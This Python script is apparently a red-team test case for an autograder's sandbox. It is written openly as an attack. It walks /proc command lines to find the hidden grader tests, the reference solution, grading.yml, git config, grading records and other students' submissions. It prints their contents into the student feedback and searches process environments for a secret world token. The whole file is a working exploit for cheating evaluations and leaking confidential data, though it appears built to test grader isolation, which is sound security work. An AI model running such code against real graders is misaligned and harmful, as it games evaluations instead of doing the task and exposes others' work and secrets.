# attack: read the hidden graders, the reference, grading.yml, the grader's environment and other students' work from disk, and print them into the feedback
# honest: 0 it prints what it read and stops, so every test shows its last lines: they must hold no hidden text
# proof: ATTACK found | ATTACK done reading
import glob
import os

import ticketrail


def commands() -> list[list[str]]:
    found = []
    for path in glob.glob("/proc/[0-9]*/cmdline"):
        try:
            with open(path, "rb") as cmdline:
                argv = cmdline.read().split(b"\0")
        except OSError:
            continue
        found.append([arg.decode(errors="replace") for arg in argv if arg])
    return found


def after(argv: list[str], flag: str) -> str | None:
    return argv[argv.index(flag) + 1] if flag in argv and argv.index(flag) + 1 < len(argv) else None


targets: dict[str, str] = {}
for argv in commands():
    if "--ticketrail-report" in argv:  # the grader's pytest: its argv names the kit
        kit = after(argv, "--rootdir") or ""
        targets["graders"] = next((arg for arg in argv if arg.endswith(("/graders/01", "/graders/01/"))), kit + "/graders/01")
        targets["grader file"] = targets["graders"].rstrip("/") + "/test_slow_endpoint.py"
        targets["reference"] = kit + "/reference/01/app.py"
        targets["grading.yml"] = after(argv, "--grading-yml") or kit + "/grading.yml"
        targets["known-wrong"] = kit + "/tests/wrong/01"
        targets["git"] = kit + "/.git/config"
        targets["report"] = after(argv, "--ticketrail-report") or ""
    if "grade" in argv and "--out" in argv:  # the instructor's `ticketrail grade SUBMISSIONS --out OUT`
        out = after(argv, "--out") or ""
        targets["records"] = out + "/records"
        submissions = argv[argv.index("grade") + 1]
        targets["others' work"] = submissions
    if any("ticketrail.world" in arg for arg in argv):
        targets.setdefault("world env", "")
targets["runtime src"] = os.path.dirname(ticketrail.__file__) + "/__init__.py"  # public: the shop client lives here

print(f"ATTACK found {len(targets)} targets")
for label, path in targets.items():
    if not path:
        continue
    try:
        if os.path.isdir(path):
            names = os.listdir(path)
            print(f"ATTACK {label}: LISTED {len(names)} {path}")
            for name in names[:3]:
                inner = os.path.join(path, name)
                if os.path.isfile(inner):
                    with open(inner, errors="replace") as handle:
                        print(f"ATTACK {label}/{name}: GOT {handle.read(300)!r}")
        else:
            with open(path, errors="replace") as handle:
                print(f"ATTACK {label}: GOT {handle.read(300)!r}")
    except OSError as error:
        print(f"ATTACK {label}: DENIED {type(error).__name__}")
for argv_pid in glob.glob("/proc/[0-9]*/environ"):
    try:
        with open(argv_pid, "rb") as environ:
            text = environ.read()
    except OSError:
        continue
    if b"TICKETRAIL_WORLD_TOKEN" in text:
        print(f"ATTACK world token: GOT it from {argv_pid}")
print("ATTACK done reading; stopping so that the feedback shows all of the above")
raise SystemExit(1)
